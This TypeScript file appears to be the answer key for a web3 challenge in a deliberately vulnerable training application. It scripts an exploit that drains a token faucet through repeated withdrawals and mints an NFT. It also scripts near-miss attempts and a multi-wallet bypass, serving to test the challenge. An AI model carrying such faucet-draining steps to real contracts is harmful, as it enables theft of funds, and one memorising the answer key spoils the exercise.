import { ChainPlayer } from '@fruit/challenge-kit/chain-player'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { CONTRACTS } from '@fruit/isomorphic/web3/contracts'
import { challenge } from './challenge.ts'

const FAUCET = CONTRACTS.beeFaucet.address
const BEES = CONTRACTS.beeToken.address
const HONEY_POT = CONTRACTS.honeyPot.address
const PRICE = 1000n * 10n ** 18n

const take = (player: ChainPlayer, bees: bigint) => player.send(FAUCET, 'withdraw(uint8)', [bees])

async function mint(player: ChainPlayer): Promise<void> {
  await player.send(BEES, 'approve(address,uint256)', [HONEY_POT, PRICE])
  await player.send(HONEY_POT, 'mint()')
}

const verify = (attacker: Attacker, walletAddress: string) =>
  attacker.post('/rest/web3/walletNFTVerify', { walletAddress })

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const player = await ChainPlayer.withEther(attacker)
    await attacker.get('/rest/web3/nftMintListen')
    for (let bees = 0n; bees < 1000n; bees += 200n) await take(player, 200n)
    await mint(player)
    await verify(attacker, player.address)
  },
  nearMisses: {
    'an account that has minted nothing': async (attacker) => {
      await verify(attacker, (await ChainPlayer.withEther(attacker)).address)
    },
    'all the bees of the pool, which are too few': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      await take(player, 120n)
      await take(player, 80n)
      await mint(player)
      await verify(attacker, player.address)
    },
    'a thousand bees without a honey pot': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      for (let bees = 0n; bees < 1000n; bees += 250n) await take(player, 250n)
      await verify(attacker, player.address)
    },
    'minting without letting the collection take the bees': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      for (let bees = 0n; bees < 1000n; bees += 250n) await take(player, 250n)
      await player.send(HONEY_POT, 'mint()')
      await verify(attacker, player.address)
    },
    'the address of somebody else': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      for (let bees = 0n; bees < 1000n; bees += 250n) await take(player, 250n)
      await mint(player)
      await verify(attacker, new ChainPlayer(attacker).address)
      await verify(attacker, HONEY_POT)
    },
    'no address at all': async (attacker) => {
      await attacker.get('/rest/web3/nftMintListen')
      await verify(attacker, '')
      await attacker.post('/rest/web3/walletNFTVerify', {})
    },
  },
  bypasses: {
    'once-for-each-visitor': async (attacker) => {
      const player = await ChainPlayer.withEther(attacker)
      for (let count = 0; count < 4; count++) {
        const other = await ChainPlayer.withEther(attacker)
        await take(other, 255n)
        await other.send(BEES, 'transfer(address,uint256)', [player.address, 255n * 10n ** 18n])
      }
      await mint(player)
      await verify(attacker, player.address)
    },
  },
})
